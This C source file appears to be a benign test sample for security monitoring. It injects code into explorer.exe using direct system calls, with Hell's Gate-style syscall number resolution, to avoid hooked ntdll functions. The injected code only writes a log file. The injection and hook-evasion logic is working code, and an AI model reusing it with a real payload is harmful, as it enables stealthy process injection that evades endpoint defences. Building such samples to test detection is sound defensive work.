/* syscall_injection — the classic remote-thread injection (allocate, write, protect, start a
 * thread in explorer.exe) made entirely of the sample's own system calls: NtAllocateVirtualMemory,
 * NtWriteVirtualMemory, NtProtectVirtualMemory and NtCreateThreadEx, their numbers read from
 * ntdll's stubs at run time (Hell's Gate) and issued by a `syscall` instruction in the sample
 * (SysWhispers) — so no kernel32 or ntdll function that a monitor hooks is ever called
 * (ATT&CK T1055, T1106). Where ntdll's stubs do not look like Windows 10's (another build, Wine,
 * x86) it calls the ntdll functions instead.
 *
 * Harmless: the injected code (common/inject.h) calls OutputDebugStringA and writes
 * %TEMP%\mamori-sample\syscall_injection.txt from inside explorer.exe, then its thread ends. */
#include "inject.h"
#include "syscall.h"

typedef LONG(NTAPI *AllocateFn)(HANDLE, PVOID *, ULONG_PTR, PSIZE_T, ULONG, ULONG);
typedef LONG(NTAPI *WriteFn)(HANDLE, PVOID, PVOID, SIZE_T, PSIZE_T);
typedef LONG(NTAPI *ProtectFn)(HANDLE, PVOID *, PSIZE_T, ULONG, PULONG);
typedef LONG(NTAPI *CreateThreadExFn)(PHANDLE, ACCESS_MASK, PVOID, HANDLE, PVOID, PVOID, ULONG,
                                      SIZE_T, SIZE_T, SIZE_T, PVOID);

enum { ALLOCATE, WRITE, PROTECT, CREATE_THREAD, FUNCTIONS };
static const char *const kNames[FUNCTIONS] = {"NtAllocateVirtualMemory", "NtWriteVirtualMemory",
                                              "NtProtectVirtualMemory", "NtCreateThreadEx"};
static void *g_function[FUNCTIONS];
static DWORD g_number[FUNCTIONS];
static BOOL g_syscalls;

/* What to call for function i: the sample's own syscall stub primed with its number, or the
 * ntdll function. */
static void *entry(int i) {
#ifdef _WIN64
  if (g_syscalls) {
    g_ssn = g_number[i];
    return (void *)direct_stub;
  }
#endif
  return g_function[i];
}

int main(void) {
  HMODULE ntdll = GetModuleHandleA("ntdll.dll");
  g_syscalls = TRUE;
  for (int i = 0; i < FUNCTIONS; ++i) {
    g_function[i] = (void *)GetProcAddress(ntdll, kNames[i]);
    if (!g_function[i]) return 1;
#ifdef _WIN64
    void *insn;
    g_syscalls = g_syscalls && read_stub(g_function[i], &g_number[i], &insn);
#else
    g_syscalls = FALSE;
#endif
  }
  sample_log(g_syscalls ? "syscall_injection: using direct syscalls"
                        : "syscall_injection: ntdll stubs not recognised, calling ntdll");

  DWORD pid = inject_find_process("explorer.exe");
  if (!pid) {
    sample_log("syscall_injection: explorer.exe not found");
    return 2;
  }
  HANDLE process = OpenProcess(PROCESS_CREATE_THREAD | PROCESS_QUERY_INFORMATION |
                                   PROCESS_VM_OPERATION | PROCESS_VM_WRITE, FALSE, pid);
  if (!process) return 3;
  DWORD code_size, entry_offset;
  unsigned char *code = inject_code(&code_size, &entry_offset);
  InjectParam param;
  if (!code || !inject_make_param(&param, "syscall_injection.txt",
                                  "syscall_injection: hello from code written by syscalls\r\n"))
    return 4;

  PVOID remote_code = NULL, remote_param = NULL;
  SIZE_T code_region = code_size, param_region = sizeof param;
  if (((AllocateFn)entry(ALLOCATE))(process, &remote_code, 0, &code_region,
                                    MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE) != 0 ||
      ((AllocateFn)entry(ALLOCATE))(process, &remote_param, 0, &param_region,
                                    MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE) != 0)
    return 5;
  if (((WriteFn)entry(WRITE))(process, remote_code, code, code_size, NULL) != 0 ||
      ((WriteFn)entry(WRITE))(process, remote_param, &param, sizeof param, NULL) != 0)
    return 6;
  PVOID protect_base = remote_code;
  SIZE_T protect_size = code_size;
  ULONG old;
  if (((ProtectFn)entry(PROTECT))(process, &protect_base, &protect_size, PAGE_EXECUTE_READ,
                                  &old) != 0)
    return 7;
  HANDLE thread = NULL;
  LONG status = ((CreateThreadExFn)entry(CREATE_THREAD))(
      &thread, THREAD_ALL_ACCESS, NULL, process, (unsigned char *)remote_code + entry_offset,
      remote_param, 0, 0, 0, 0, NULL);
  if (status == 0 && thread) {
    WaitForSingleObject(thread, 10000);
    CloseHandle(thread);
  }
  CloseHandle(process);
  return status == 0 ? 0 : 8;
}
